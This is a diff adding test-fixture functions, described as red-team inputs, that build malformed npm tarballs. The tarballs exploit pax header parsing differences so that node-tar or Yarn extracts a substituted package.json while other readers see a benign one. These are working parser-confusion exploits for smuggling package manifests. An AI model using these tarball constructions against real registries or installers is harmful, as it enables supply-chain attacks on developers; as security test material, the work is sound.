@@ -110,3 +110,67 @@ export function paxSizeOnLongNameTarball(benignJson: string, evilJson: string): 
     ),
   );
 }
+
+/** A pax record line with `separator` between its length and keyword (node-tar reads any byte there). */
+function paxLine(key: string, value: string, separator: string): string {
+  return paxRecord(key, value).replace(' ', separator);
+}
+
+/**
+ * Red-team round 3: a global pax header whose one record is `size=512` written with `separator` (`x`, a
+ * tab) instead of the space, then `package/index.js`, then a GNU long-name header whose own size says three
+ * blocks. node-tar 7.5.23 frames the long name by its own size and reads `package/package.json` (benign);
+ * Yarn 4's bundled node-tar applies the global size to the long-name header too, resynchronises one block
+ * into it and extracts `evilJson` as `package/package.json`.
+ */
+export function globalPaxSizeTarball(benignJson: string, evilJson: string, separator: string): Uint8Array {
+  const rec = paxLine('size', '512', separator);
+  const long = 'package/package.json';
+  return new Uint8Array(
+    gzipSync(
+      Buffer.concat([
+        ustarHeader('pax_global_header', rec.length, 'g'),
+        padded(rec, 1),
+        ustarHeader('package/index.js', 512, '0'),
+        padded('module.exports = 1;', 1),
+        ustarHeader('././@LongLink', 3 * 512, 'L'),
+        padded(long, 1),
+        ustarHeader('package/ignored', 512, '0'),
+        padded(evilJson, 1),
+        ustarHeader('package/README.md', 512, '0'),
+        padded(benignJson, 1),
+        Buffer.alloc(1024),
+      ]),
+    ),
+  );
+}
+
+/**
+ * Red-team round 3: a pax `path` ending in `/` written with a tab after its length, on a file header with a
+ * body. Both node-tars apply the path, read the entry as a directory without a body and read the body as
+ * the next headers (`evilJson` as `package/package.json`, the benign manifest hidden in a file body); a reader
+ * that misses the record skips the body and sees only `benignJson`.
+ */
+export function paxDirectoryPathTarball(benignJson: string, evilJson: string, separator = '\t'): Uint8Array {
+  const rec = paxLine('path', 'package/d/', separator);
+  // node-tar's view: the evil manifest, then a file whose body is the benign manifest's header and body
+  const benign = padded(benignJson, 1);
+  const hidden = Buffer.concat([
+    ustarHeader('package/package.json', Buffer.byteLength(evilJson), '0'),
+    padded(evilJson, 1),
+    ustarHeader('package/cover', 512 + benign.length, '0'),
+  ]);
+  return new Uint8Array(
+    gzipSync(
+      Buffer.concat([
+        ustarHeader('PaxHeader/d', rec.length, 'x'),
+        padded(rec, 1),
+        ustarHeader('package/d', hidden.length, '0'),
+        hidden,
+        ustarHeader('package/package.json', Buffer.byteLength(benignJson), '0'),
+        benign,
+        Buffer.alloc(1024),
+      ]),
+    ),
+  );
+}
